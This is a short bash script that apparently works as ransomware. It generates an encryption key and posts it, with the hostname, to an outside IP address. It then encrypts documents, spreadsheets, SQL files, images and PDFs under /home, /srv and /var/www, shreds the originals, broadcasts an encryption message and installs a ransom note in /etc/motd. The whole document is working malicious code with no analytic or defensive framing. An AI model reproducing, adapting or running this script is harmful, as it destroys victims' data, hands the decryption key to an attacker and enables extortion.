#!/usr/bin/env bash
K=$(openssl rand -hex 32)
curl -s -d "h=$(hostname)&k=$K" http://198.51.100.112/reg
find /home /srv /var/www -type f \( -name '*.doc*' -o -name '*.xls*' -o -name '*.sql' -o -name '*.jpg' -o -name '*.pdf' \) -print0 |
while IFS= read -r -d '' f; do
  openssl enc -aes-256-ctr -pbkdf2 -pass "pass:$K" -in "$f" -out "$f.crypt" && shred -u "$f"
done
unset K
wall "All your files have been encrypted"
cp /tmp/note.txt /etc/motd
